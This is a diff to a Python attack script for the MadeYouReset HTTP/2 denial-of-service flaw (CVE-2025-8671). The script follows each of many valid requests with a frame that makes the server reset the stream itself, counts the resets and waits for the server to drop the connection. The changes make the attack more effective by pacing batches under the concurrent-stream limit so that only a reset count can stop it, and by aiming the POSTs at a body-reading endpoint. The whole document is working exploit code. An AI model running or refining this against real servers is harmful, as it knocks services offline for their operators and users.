@@ -1,7 +1,8 @@
 #!/usr/bin/python3
 """MadeYouReset (CVE-2025-8671): valid requests each followed by a frame that makes the server reset the stream
 itself: a WINDOW_UPDATE of 0 (window0), DATA beyond the declared content-length (data), or a second HEADERS on a
-stream the client already half-closed (halfclosed); mixed cycles the three. Counts the server's RST_STREAMs and
+stream the client already half-closed (halfclosed); mixed cycles the three. Each batch waits for the server's
+answers to the one before, so the streams stay under max_concurrent_streams. Counts the server's RST_STREAMs and
 waits for it to end the connection."""
 import struct
 import time
@@ -11,7 +12,7 @@ from h2wire import Conn, DataFrame, common_args
 p = common_args(__doc__)
 p.add_argument("--mode", choices=["window0", "data", "halfclosed", "mixed"], default="mixed")
 p.add_argument("--path", default="/big.bin", help="the request each stream starts (work the server would do)")
-p.add_argument("--post-path", default="/small.txt", help="the target of the data mode's POSTs")
+p.add_argument("--post-path", default="/upload.cgi", help="the target of the data mode's POSTs (one that reads a body)")
 p.add_argument("--count", type=int, default=20000, help="streams at most")
 p.add_argument("--batch", type=int, default=50)
 a = p.parse_args()
@@ -45,6 +46,8 @@ while sent < a.count and not c.ended() and time.monotonic() < deadline:
     if not c.send_raw(data):
         break
     sent += a.batch
-    c.pump(0)
+    # Paced: the next batch goes once the server has reset (or answered) this one, so the attack stays under
+    # max_concurrent_streams and only a count of resets can stop it.
+    c.wait(lambda: sum(1 for s in c.streams.values() if s.reset is not None or s.status is not None) >= sent, 1.0)
 c.wait(c.ended, 2)
 c.report(streams_sent=sent, mode=a.mode)
